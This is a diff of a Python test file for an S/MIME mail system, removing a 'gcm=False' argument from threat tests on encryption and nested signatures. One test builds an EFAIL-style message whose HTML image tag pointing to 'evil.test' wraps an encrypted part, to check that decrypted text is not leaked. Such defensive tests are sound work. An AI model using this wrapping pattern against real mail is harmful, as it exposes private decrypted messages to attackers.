@@ -62,7 +62,7 @@ def ann_key(world: World) -> keystore.Held:
 def test_threat_5_5_29_a_sealed_part_between_others_stays_closed(
     world: World, carol: Person, subtype: bytes
 ) -> None:
-    sealed = entity(smime.encrypt(MAIL, [ann_key(world).der], gcm=False))
+    sealed = entity(smime.encrypt(MAIL, [ann_key(world).der]))
     html = b'Content-Type: text/html\r\n\r\n<img src="http://evil.test/'
     raw = mixed(html, sealed, b'Content-Type: text/html\r\n\r\n">').replace(b"multipart/mixed", b"multipart/" + subtype)
     got = receive(world, raw)
@@ -103,11 +103,11 @@ def test_threat_5_5_35_signed_in_signed_counts_the_outer_one_alone(world: World,
 def test_threat_5_5_35_triple_wrap(world: World, carol: Person) -> None:
     """What is signed outside of a seal is nobody's word about the text; what is signed inside is."""
     ann, eve = ann_key(world), person("eve@partner.test")
-    whole = receive(world, carol.sign(smime.encrypt(carol.sign(MAIL), [ann.der], gcm=False)))
+    whole = receive(world, carol.sign(smime.encrypt(carol.sign(MAIL), [ann.der])))
     assert whole.subject == "[secure] [signed OK] x"
-    taken_over = receive(world, carol.sign(smime.encrypt(eve.sign(MAIL), [ann.der], gcm=False)))
+    taken_over = receive(world, carol.sign(smime.encrypt(eve.sign(MAIL), [ann.der])))
     assert "[signed INVALID]" in taken_over.subject
-    outside_only = receive(world, carol.sign(smime.encrypt(MAIL, [ann.der], gcm=False)))
+    outside_only = receive(world, carol.sign(smime.encrypt(MAIL, [ann.der])))
     assert outside_only.subject == "[secure] x"
 
 
